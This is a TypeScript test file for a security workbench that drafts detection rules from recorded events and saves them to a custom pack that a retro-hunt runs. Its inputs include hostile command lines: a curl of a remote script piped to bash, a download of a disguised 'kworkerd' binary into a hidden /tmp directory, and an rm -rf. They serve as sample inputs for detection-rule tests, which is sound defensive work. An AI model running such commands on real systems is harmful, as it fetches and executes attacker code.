// Rules made from events, through the Workbench API on the demo recording: every event of the case gives
// a draft that the engine accepts as a rule and that matches the event it came from; a saved draft joins
// detection beside the bundled rules, and a retro-hunt raises its signal once.
import { existsSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { inProcessApi } from '../src-shared/api/dispatch.ts';
import { compileRule, RuleSet } from '../src-shared/secl/index.ts';
import { argsPattern, customPackDir } from './detect/index.ts';
import { MemorySecretStore, nodePaths } from './platform/index.ts';
import { Workbench } from './workbench.ts';

let workbench: Workbench;
let api: ReturnType<typeof inProcessApi>;
let dataDir: string;

beforeAll(async () => {
  dataDir = mkdtempSync(join(tmpdir(), 'wb-rules-'));
  workbench = new Workbench({ host: 'cli', paths: { ...nodePaths({}), dataDir }, secrets: new MemorySecretStore() });
  api = inProcessApi(workbench.handlers());
  await api.call('cases.openDemo', {});
});
afterAll(() => workbench?.close());

describe('argument patterns for drafts', () => {
  it('keep the options and the first operand, and let the rest vary', () => {
    expect(argsPattern('-c curl -s http://203.0.113.45/x.sh | bash')).toEqual({ op: '=~', value: '-c curl *' });
    expect(argsPattern('-so /tmp/.x/kworkerd http://203.0.113.45/k')).toEqual({ op: '=~', value: '-so /tmp/.x/kworkerd *' });
    expect(argsPattern('-i')).toEqual({ op: '==', value: '-i' });
    expect(argsPattern('')).toBeNull();
    // '*' is SECL's wildcard and has no escape: the pattern stops before it
    expect(argsPattern('-c rm -rf /tmp/*')).toEqual({ op: '=~', value: '-c rm *' });
    expect(argsPattern('*.log')).toBeNull();
  });
});

describe('a rule from an event', () => {
  it('drafts, for every event of the case, a rule the engine accepts and that matches that event', async () => {
    const store = workbench.requireCase();
    const hunt = store.hunt({});
    let drafts = 0;
    for (let chunk = hunt.next(200); chunk.length > 0; chunk = hunt.next(200)) {
      for (const { eventId, event } of chunk) {
        const draft = await api.call('rules.draft', { eventId });
        // as the policy loader compiles it: an event type is required
        const compiled = compileRule({ id: draft.id, expression: draft.expression });
        expect(compiled.ok, `${draft.expression}: ${compiled.ok ? '' : compiled.errors[0]!.message}`).toBe(true);
        if (!compiled.ok) continue;
        if (event['type'] === 'fork' || event['type'] === 'snapshot') expect(draft.note).toContain('exec rule');
        else expect(new RuleSet([compiled.rule]).match(event), `${event['type']} ${draft.expression}`).toHaveLength(1);
        expect(draft.id).toMatch(/^custom_[a-z0-9_]+$/);
        drafts++;
      }
    }
    expect(drafts).toBe(store.countEvents({}).total);
  });

  it('saves a draft into the custom pack, where the next retro-hunt runs it and raises its signal once', async () => {
    const store = workbench.requireCase();
    const curl = store.queryEvents({ types: ['exec'], text: 'kworkerd', limit: 10, count: false }).rows.find((row) => row.comm === 'curl')!;
    const draft = await api.call('rules.draft', { eventId: curl.id });
    expect(draft.expression).toContain('exec.file.path == "/usr/bin/curl"');
    expect(draft.expression).toMatch(/process\.parent\.file\.path == "[^"]+"/);
    expect(existsSync(customPackDir(dataDir))).toBe(false);

    const { note: _note, ...rule } = draft;
    const saved = await api.call('rules.saveCustom', { ...rule, severity: 'critical' });
    expect(saved.file).toBe(join(customPackDir(dataDir), 'custom.policy'));
    expect(workbench.detection().rule(draft.id)).toMatchObject({ severity: 'critical', source: { kind: 'custom' } });
    // the bundled rules are all still there
    expect(workbench.detection().rule('web_server_spawned_shell')).toBeDefined();

    expect(await api.call('signals.list', { ruleId: draft.id })).toEqual([]);
    const hunt = await api.call('detect.retroHunt', {});
    expect(hunt.newSignals).toBe(1);
    const [signal] = await api.call('signals.list', { ruleId: draft.id });
    expect(signal).toMatchObject({ hostName: 'web-01', rule: { id: draft.id, severity: 'critical' } });
    expect((await api.call('signals.get', { id: signal!.id })).matches.map((match) => match.id)).toEqual([curl.id]);
    expect((await api.call('detect.retroHunt', {})).newSignals).toBe(0);

    // the id is taken now: the next draft from the same event proposes another, and saving the same one is refused
    expect((await api.call('rules.draft', { eventId: curl.id })).id).toBe(`${draft.id}_2`);
    await expect(api.call('rules.saveCustom', rule)).rejects.toMatchObject({ code: 'conflict' });
    await expect(api.call('rules.saveCustom', { ...rule, id: 'web_server_spawned_shell' })).rejects.toMatchObject({ code: 'conflict', message: expect.stringContaining('a bundled rule') });
    await expect(api.call('rules.draft', { eventId: 999_999 })).rejects.toMatchObject({ code: 'not_found' });
  });
});
